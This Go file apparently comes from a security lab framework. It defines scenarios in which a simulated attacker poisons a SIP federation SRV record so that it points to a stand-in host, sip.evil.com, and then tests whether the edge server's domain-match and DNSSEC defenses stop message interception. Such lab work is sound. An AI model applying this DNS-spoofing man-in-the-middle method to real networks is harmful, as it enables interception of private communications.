package scenarios

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"

	miekg "github.com/miekg/dns"

	"github.com/tlslab/tlslab/actors/attacker"
	"github.com/tlslab/tlslab/actors/dns"
	"github.com/tlslab/tlslab/actors/pki"
	"github.com/tlslab/tlslab/actors/sip"
	"github.com/tlslab/tlslab/lab"
	"github.com/tlslab/tlslab/lab/contoso"
)

// dnsSRVParams declares a federation SRV poisoning scenario: mallory, on
// the Internet segment, answers edge01's query to public DNS for
// _sipfederationtls._tcp.fabrikam.com with her own host, sip.evil.com
// (203.0.113.66), for which she holds a valid public-CA certificate.
//
// Under spoofer-silent mallory's spoofer sends nothing; under
// proxy-refuses and proxy-hangs it works and her Edge refuses or hangs.
type dnsSRVParams struct {
	header
}

var dnsEvilAddr = netip.MustParsePrefix("203.0.113.66/24")

const (
	dnsEvilName   = "sip.evil.com"
	dnsFedRecord  = "_sipfederationtls._tcp.fabrikam.com"
	dnsFedVictim  = "carol@fabrikam.com"
	dnsFedPartner = "fabrikam.com"
)

var (
	dnsSRVPoison = dnsSRVParams{
		header: header{
			name:    "dns/federation-srv-poison",
			labels:  []lab.Label{lab.LabelDNS, lab.LabelFederation, lab.LabelSIP, lab.LabelMITM},
			summary: "mallory poisons Fabrikam's federation SRV record to point at sip.evil.com",
			story: "Mallory sits on the Internet path to public DNS (203.0.113.53) and answers edge01's query for " +
				"_sipfederationtls._tcp.fabrikam.com first (she holds the query back 50 ms), pointing it at sip.evil.com (203.0.113.66), a host she " +
				"runs with a valid public-CA certificate for its own name. Alice sends carol@fabrikam.com a canary. " +
				"edge01 requires a federation SRV target to lie inside the partner's domain and must refuse " +
				"sip.evil.com: carol gets nothing (service denied), mallory reads nothing.",
			expected: lab.Held, stoppedBy: lab.DefenseFederationSRVDomainMatch,
		},
	}
	dnsSRVPoisonNoMatch = dnsSRVParams{
		header: header{
			name:    "dns/federation-srv-poison-no-domain-match",
			labels:  []lab.Label{lab.LabelDNS, lab.LabelFederation, lab.LabelSIP, lab.LabelMITM, lab.LabelMisconfig},
			summary: "the SRV poisoning against an Edge that does not check the target's domain",
			story: "The attack of dns/federation-srv-poison against an edge01 that follows a federation SRV record " +
				"wherever it points (FederationSRVDomainMatch off). It dials sip.evil.com, and the certificate there " +
				"is valid for exactly that name from a CA every federation trust store holds: the handshake " +
				"succeeds, edge01 takes mallory for Fabrikam's Edge and hands her alice's canary.",
			expected: lab.Broken,
			defenses: func(d *lab.Defenses) { d.FederationSRVDomainMatch = false },
		},
	}
)

func (p dnsSRVParams) scenario() lab.Scenario {
	return p.header.scenario(p.attackerText(), lab.WithChanges(contoso.Config{}, p.topologyChanges()...), p.run)
}

// attackerText says, for handouts, where mallory poisons edge01's
// federation SRV lookup and what her Edge presents.
func (p dnsSRVParams) attackerText() string {
	return "mallory on the Internet path to public DNS (203.0.113.53), answering edge01's query for " + dnsFedRecord +
		" with " + dnsEvilName + " (203.0.113.66), her host with a valid public-CA certificate for its own name"
}

// run poisons edge01's federation SRV lookup, has alice send carol a
// canary, and records mallory's forged answers, what edge01's resolver and
// policy did with them, whether edge01 federated to mallory's Edge, what
// she read and whether carol got the message.
func (p dnsSRVParams) run(ctx context.Context, env *lab.Env) error {
	c, err := contoso.Config{}.Build(ctx, env)
	if err != nil {
		return err
	}
	defer c.Close()
	mallory, malloryNIC, err := c.AttachHost("mallory", "internet", dnsEvilAddr, false)
	if err != nil {
		return err
	}
	me := dnsEvilAddr.Addr()
	cred, err := c.CA("public-issuing").Issue(pki.CertRequest{DNSNames: []string{dnsEvilName}, Purpose: pki.PurposeServerClient})
	if err != nil {
		return err
	}
	px, err := attacker.NewProxy(attacker.ProxyConfig{
		Host: mallory, Port: contoso.PortSIPTLS, SIP: true,
		Victim:   sabotagedVictim(env, attacker.VictimTLS{Certs: attacker.OwnCertificate(cred), KeyLogWriter: env.KeyLog}),
		Upstream: attacker.SIPResponder{},
	})
	if err != nil {
		return err
	}
	if err := px.Start(ctx); err != nil {
		return err
	}
	defer px.Close()
	var spoof *attacker.DNSSpoofer
	if !spooferSilent(env) {
		if spoof, err = attacker.NewDNSSpoofer(attacker.DNSSpoofConfig{
			Forgery:     attacker.DNSForgery{Names: []string{dnsFedRecord, dnsEvilName}, A: me, SRVTarget: dnsEvilName, SRVPort: contoso.PortSIPTLS},
			Servers:     []netip.Addr{c.Host("public-dns").Addr()},
			HoldQueries: dnsQueryHold,
		}); err != nil {
			return err
		}
		defer spoof.AttachSegmentVia(c.Segment("internet"), malloryNIC)()
	}

	canary, _, sendErr := aliceSends(ctx, env, c, dnsFedVictim)
	ev := env.Evidence
	if spoof != nil {
		for _, q := range spoof.Questions() {
			if q.Forged {
				ev.Reached("mallory", lab.MilestoneAttempted, "answered %s's query %s %s (ID %d) with %s", q.Client.Addr(), q.Type, q.Name, q.ID,
					map[string]string{"SRV": dnsEvilName + ":5061", "A": me.String()}[q.Type])
			}
		}
	}
	noteDNSSECDrops(env, "edge01", c.Resolver("edge01"))
	rejection, rejected := findRejection(c, "edge01", func(r sip.Rejection) bool { return r.Direction == sip.Outbound })
	relays := slices.DeleteFunc(c.Edge("edge01").Relays(), func(r sip.Relay) bool { return r.NextHop != dnsEvilName || r.NextHopTLS == nil })
	var srvErr *sip.SRVTargetError
	if rejected && errors.As(rejection.Err, &srvErr) && srvErr.Target == dnsEvilName || len(relays) > 0 {
		ev.Reached("mallory", lab.MilestonePresented, "her forged answer was taken: edge01's resolver gave %s as %s:%d", dnsFedRecord, dnsEvilName, contoso.PortSIPTLS)
	}
	for _, s := range endedSessions(ctx, []*attacker.Proxy{px}) {
		line := fmt.Sprintf("edge01 (%v) connected to her Edge at %v", s.Victim.Addr(), s.Dialled)
		if v := s.VictimSide; sabotaged(v.Err) {
			ev.Notef("mallory", "%s, which failed: %s", line, v.Err)
		} else if v.Certificate != nil {
			ev.Reached("mallory", lab.MilestonePresented, "%s and presented %s issued by %s", line, v.Certificate.Subject, v.Certificate.Issuer)
		} else {
			ev.Reached("mallory", lab.MilestoneInPosition, "%s", line)
		}
	}
	for _, r := range relays {
		ev.Notef("edge01", "relayed MESSAGE from %s to %s to %s (%s) over MTLS, peer certificate %s issued by %s; answered %d",
			r.From, r.To, r.NextHop, r.NextHopAddr, r.NextHopTLS.PeerSubject, r.NextHopTLS.PeerIssuer, r.Status)
		ev.IdentityAccepted("edge01", dnsEvilName, fmt.Sprintf("federated %s's message for %s to it, reached through a poisoned %s record, a host outside %s",
			r.From, r.To, dnsFedRecord, dnsFedPartner))
	}
	if d, ok := findDelivery(c, "fabrikam-fe01", canary); ok {
		ev.SetService(lab.ServiceIntact)
		ev.At(d.Time).Notef("fabrikam-fe01", "%s", describeDelivery(d))
	} else {
		ev.SetService(lab.ServiceDenied)
		noteAnswer(env, "alice", "MESSAGE to "+dnsFedVictim, sendErr)
	}
	rep := px.Report([]string{canary.Token})
	ev.CanariesObtained("mallory", len(rep.Found), 1, fmt.Sprintf("%d B edge01 sent to %s", rep.CapturedBytes, dnsEvilName))
	if rejected {
		noteRejection(env, rejection)
	}
	if ctx.Err() != nil {
		return context.Cause(ctx)
	}
	return nil
}

// noteDNSSECDrops records, as host's dnssec-validation refusals, the
// answers its resolver r dropped because DNSSEC validation failed (only a
// forgery fails it: the zones' servers sign what they send), one line per
// query and error, however often a flood repeated the forgery.
func noteDNSSECDrops(env *lab.Env, host string, r *dns.Resolver) {
	if r == nil {
		return
	}
	seen := map[string]bool{}
	for _, d := range r.Dropped() {
		if d.Reason != dns.DropValidation {
			continue
		}
		line := fmt.Sprintf("resolver dropped the forged answer from %v to its query %s %s (ID %d): %v",
			d.From, miekg.Type(d.QueryType), dnsName(d.QueryName), d.QueryID, d.Err)
		if !seen[line] {
			seen[line] = true
			env.Evidence.Refused(host, lab.DefenseDNSSECValidation, "%s", line)
		}
	}
}
